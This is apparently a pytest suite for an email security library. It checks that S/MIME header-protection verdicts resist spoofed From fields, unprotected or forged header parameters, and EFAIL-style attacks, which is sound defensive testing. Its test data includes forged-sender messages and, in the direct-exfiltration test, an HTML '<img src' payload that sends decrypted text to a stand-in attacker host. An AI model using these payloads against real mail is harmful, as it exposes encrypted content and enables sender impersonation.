"""Attacks on protected header fields, with real signatures: no verdict is above what is true.

Müller et al., "Johnny, you are fired!" (USENIX Security 2019), at the level of MIME and From; Poddebniak et al.,
"Efail" (USENIX Security 2018), direct exfiltration; RFC 9788 sections 4.4 and 10.
"""

from __future__ import annotations

import base64
from collections.abc import Callable
from typing import Any

import pytest

from mailsec.crypto import RSA_SHA256
from mailsec.crypto.cms import CertificateRecipient, Content, build_signed_data, compress, encrypt
from mailsec.pipeline import FieldState

FIELDS = b"From: Alice <alice@example.org>\r\nTo: bob@example.com\r\nSubject: Pay 10 to Bob\r\n"
OUTER = b"From: alice@example.org\r\nTo: bob@example.com\r\nSubject: Pay 10 to Bob\r\nMIME-Version: 1.0\r\n"
TEXT = b"Pay 10 to Bob.\r\n"


def payload(fields: bytes = FIELDS, hp: bytes = b'; hp="clear"', kind: bytes = b"text/plain") -> bytes:
    return fields + b"Content-Type: " + kind + hp + b"\r\n\r\n" + TEXT


def wrapped(octets: bytes, kind: bytes = b"signed-data", content_type: bytes = b"application/pkcs7-mime") -> bytes:
    return b"Content-Type: %b; smime-type=%b; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n%b" % (
        content_type,
        kind,
        base64.encodebytes(octets).replace(b"\n", b"\r\n"),
    )


@pytest.fixture(scope="session")
def signed(pki: Any, now: Any) -> Callable[..., bytes]:
    """Signs an entity, opaque."""

    def sign(entity: bytes, kind: str = "rsa", **how: Any) -> bytes:
        keys = pki.keyring(kind)
        identity = keys.identities()[0]
        return wrapped(
            build_signed_data(
                Content((entity,)), detached=False, keys=keys, identity=identity, scheme=RSA_SHA256, signing_time=now
            ),
            **how,
        )

    return sign


@pytest.fixture(scope="session")
def encrypted(pki: Any) -> Callable[..., bytes]:
    """Encrypts an entity to Alice, who is the reader here."""

    def make(entity: bytes, cipher: str = "aes256-gcm", **how: Any) -> bytes:
        recipient = CertificateRecipient(pki.alice["rsa"].certificate)
        return wrapped(b"".join(encrypt((entity,), [recipient], cipher=cipher)), b"enveloped-data", **how)

    return make


def mixed(*parts: bytes) -> bytes:
    return (
        b"Content-Type: multipart/mixed; boundary=b\r\n\r\n"
        + b"".join(b"--b\r\n%b\r\n" % part for part in parts)
        + b"--b--\r\n"
    )


FOOTER = b"Content-Type: text/plain\r\n\r\nPay 1000 to Mallory.\r\n"


@pytest.mark.parametrize(
    ("outer", "make", "kind", "row", "words"),
    [
        pytest.param(OUTER, payload, "rsa", 7, "signed the whole body and its header", id="what they start from"),
        pytest.param(
            OUTER.replace(b"Pay 10 to", b"Pay 1000 to"), payload, "rsa", 7, "and its header", id="Subject outside"
        ),
        pytest.param(
            OUTER.replace(b"alice@", b"Alice@"), payload, "rsa", 7, "and its header", id="From in another case outside"
        ),
        pytest.param(
            OUTER,
            lambda: payload(FIELDS.replace(b"alice@", b"Alice@")),
            "rsa",
            5,
            "Alice@",
            id="in another case inside",
        ),
        pytest.param(OUTER + FIELDS[:33], payload, "rsa", 1, "2 From fields", id="two From fields outside"),
        pytest.param(
            OUTER, lambda: payload(FIELDS[:33] + FIELDS), "rsa", 5, "inside it says", id="two From fields inside"
        ),
        pytest.param(
            OUTER, lambda: payload(b"From: a: alice@example.org;\r\n"), "rsa", 5, "inside it says", id="a group inside"
        ),
        pytest.param(
            OUTER.replace(b"alice@example.org", b"bank@bank.example"),
            payload,
            "rsa",
            7,
            "From outside of it says bank@bank.example, for which nobody vouches",
            id="another From outside",
        ),
        pytest.param(
            OUTER,
            lambda: payload(b"From: bank@bank.example\r\n"),
            "rsa",
            5,
            "inside it says bank@bank.example, and this was signed by alice@example.org",
            id="another From inside",
        ),
        pytest.param(
            OUTER,
            payload,
            "mallory",
            5,
            "signed by mallory@example.net",
            id="signed by somebody else",
        ),
        pytest.param(
            OUTER,
            lambda: payload(b'From: "alice@example.org" <mallory@example.net>\r\n'),
            "mallory",
            7,
            "mallory@example.net signed",
            id="a display name lends nothing: it is Mallory's",
        ),
        pytest.param(
            OUTER,
            lambda: payload("From: ✔ alice@example.org <mallory@example.net>\r\n".encode()),
            "mallory",
            1,
            "another address",
            id="a check mark and an address for a name",
        ),
        pytest.param(OUTER, payload, "both", 7, "alice@example.org signed", id="a certificate with several addresses"),
        pytest.param(
            OUTER,
            lambda: payload(b"From: bob@example.org, mallory@example.net\r\n"),
            "both",
            5,
            "inside it says bob@example.org and mallory@example.net",
            id="several addresses, one of them not certified",
        ),
        pytest.param(OUTER, payload, "self", 4, "does not count", id="a certificate from nobody"),
        pytest.param(
            OUTER.replace(b"example.org", b"xn--bcher-kva.example"),
            lambda: payload("From: alice@bücher.example\r\n".encode()),
            "rsa",
            5,
            "alice@example.org",
            id="another domain, IDN",
        ),
    ],
)
async def test_an_author_that_is_none(
    signed: Any, check: Any, outer: bytes, make: Any, kind: str, row: int, words: str
) -> None:
    report = await check(outer + signed(make(), kind))
    assert report.verdict.row == row, report.verdict.sentence
    assert words in report.verdict.sentence
    if row != 7:
        assert report.verdict.identity == ""
        assert not any(one.state.is_signed for one in report.shown if one.field.key == "from") or row == 1


HEADERLESS = payload(b"", b"")


@pytest.mark.parametrize(
    ("make", "row"),
    [
        pytest.param(lambda s: mixed(s(payload()), FOOTER), 6, id="a signed part beside another"),
        pytest.param(lambda s: mixed(FOOTER, s(payload())), 6, id="after another"),
        pytest.param(lambda s: mixed(s(payload())), 6, id="alone in a multipart"),
        pytest.param(
            lambda s: b"Content-Type: message/rfc822\r\n\r\n" + OUTER + s(payload()), 19, id="in a message inside"
        ),
        pytest.param(lambda s: s(mixed(payload(), HEADERLESS)), 7, id="hp on a part of what is signed"),
        pytest.param(lambda s: s(HEADERLESS).replace(b"name=", b'hp="clear"; name='), 7, id="hp on the layer"),
        pytest.param(lambda _: payload(b""), 19, id="hp on what nobody protects"),
        pytest.param(lambda s: s(s(payload(b""), content_type=b"text/plain")), 7, id="hp in a structure shown as text"),
        pytest.param(
            lambda s: s(b"Content-Type: message/rfc822; forwarded=yes\r\n\r\n" + payload(hp=b"")), 7, id="forwarded"
        ),
    ],
)
async def test_header_fields_that_nobody_protected(signed: Any, check: Any, make: Any, row: int) -> None:
    """RFC 9788 section 4.1: elsewhere the parameter says nothing, and neither do the fields beside it."""
    false = b"From: alice@example.org\r\nTo: mallory@example.net\r\nSubject: Pay Mallory\r\nMIME-Version: 1.0\r\n"
    report = await check(false + make(signed))
    assert (report.verdict.row, report.shown.scheme) == (row, None), report.verdict.sentence
    assert {one.state for one in report.shown} == {FieldState.UNPROTECTED}
    assert "its header" not in report.verdict.sentence
    if row == 7:
        assert "Subject and To are not covered" in report.verdict.sentence


@pytest.mark.parametrize("cipher", ["aes256-gcm", "aes256-cbc"])
async def test_forged_hp_outer(signed: Any, encrypted: Any, check: Any, pki: Any, cipher: str) -> None:
    """RFC 9788 section 2.2: outside of the payload it is ignored, so nobody can make a field look as if it was open."""
    inner = payload(hp=b"; hp=cipher")
    forged = b"HP-Outer: Subject: Pay 10 to Bob\r\n"
    outer = OUTER.replace(b"Pay 10 to Bob", b"[...]") + forged
    report = await check(outer + encrypted(forged + signed(inner), cipher), keys=pki.keyring("rsa"))
    assert {one.state for one in report.shown.all("subject")} == {FieldState.SIGNED_AND_ENCRYPTED}
    assert report.shown.outside == ()
    assert not any(one.field.key == "hp-outer" for one in report.shown)


async def test_encryption_that_was_taken_off(signed: Any, check: Any) -> None:
    """RFC 9788 section 2.1.1: whoever could read it passes it on; that it says `cipher` makes nothing secret."""
    report = await check(OUTER + signed(payload(hp=b"; hp=cipher")))
    assert not any(one.state.is_confidential for one in report.shown)


async def test_encryption_that_was_put_on(signed: Any, encrypted: Any, check: Any, pki: Any) -> None:
    """RFC 9788 section 10.2: its writer let anybody read it."""
    report = await check(OUTER + encrypted(signed(payload())), keys=pki.keyring("rsa"))
    assert not any(one.state.is_confidential for one in report.shown)
    assert (report.verdict.row, report.verdict.level) == (7, "verified")


async def test_an_author_encrypted_and_not_signed(encrypted: Any, check: Any, pki: Any) -> None:
    """RFC 9788 section 10.1: the outer From is what a server may have authenticated, so it is the one that is shown."""
    spoofed = payload(b"From: bank@bank.example\r\nSubject: x\r\n", b"; hp=cipher")
    report = await check(OUTER + encrypted(spoofed), keys=pki.keyring("rsa"))
    assert [one.address for one in report.shown.authors] == ["alice@example.org"]
    assert (report.verdict.row, report.verdict.level) == (5, "warning")
    assert "signed by nobody" in report.verdict.sentence


async def test_signed_what_others_encrypted(signed: Any, encrypted: Any, check: Any, pki: Any) -> None:
    """Mallory signs an encrypted message of Alice's: that is Mallory's, and covers no field of Alice's."""
    theirs = encrypted(payload(hp=b"; hp=cipher"))
    outer = OUTER.replace(b"alice@example.org", b"mallory@example.net")
    report = await check(outer + signed(theirs, "mallory"), keys=pki.keyring("rsa"))
    assert (report.verdict.row, report.verdict.identity) == (5, "")
    assert not any(one.state.is_signed for one in report.shown)


@pytest.mark.parametrize("cipher", ["aes256-gcm", "aes256-cbc"])
async def test_direct_exfiltration(encrypted: Any, check: Any, pki: Any, cipher: str) -> None:
    """EFAIL: the decrypted part is a layer of its own and closed on both sides; and no verdict speaks for the rest."""
    secret = b"Content-Type: text/html\r\n\r\n<p>The secret.</p>\r\n"
    before = b'Content-Type: text/html\r\n\r\n<img src="http://mallory.example/'
    after = b'Content-Type: text/html\r\n\r\n">\r\n'
    report = await check(OUTER + mixed(before, encrypted(secret, cipher), after), keys=pki.keyring("rsa"))
    assert [(layer.part, layer.reached) for layer in report.layers] == [("", "transit"), ("2", "encrypted")]
    assert bytes(report.layers[1].message.octets) == secret
    assert str(report.verdict.level) == "unauthenticated"
    assert report.shown.scheme is None
    assert not any(report.is_whole(one) for one in report.results)


async def test_any_nesting(signed: Any, encrypted: Any, check: Any, pki: Any) -> None:
    """RFC 8551 section 3.7: signed, compressed, encrypted as a file, each in the other."""
    inner = payload(hp=b"; hp=cipher")
    packed = wrapped(b"".join(compress((inner,))), b"compressed-data")
    octets = encrypted(signed(packed), content_type=b"application/octet-stream")
    report = await check(OUTER + octets, keys=pki.keyring("rsa"))
    assert [layer.reached for layer in report.layers[1:]] == ["encrypted", "signed", "compressed"]
    assert report.verdict.sentence == "alice@example.org signed the whole body and its header."
    assert {one.state for one in report.shown} == {FieldState.SIGNED_AND_ENCRYPTED}


@pytest.mark.parametrize("kind", [b"enveloped-data", b"compressed-data", b"signed-data"])
@pytest.mark.parametrize(
    "octets", [b"", b"0", b"\x30\x80", b"\x30\x0b\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x03", b"x" * 99]
)
async def test_rubbish_is_named(check: Any, pki: Any, kind: bytes, octets: bytes) -> None:
    report = await check(OUTER + wrapped(octets, kind), keys=pki.keyring("rsa"))
    assert report.problems == ()
    assert len(report.layers) == 1
    assert str(report.verdict.level) == "unauthenticated"
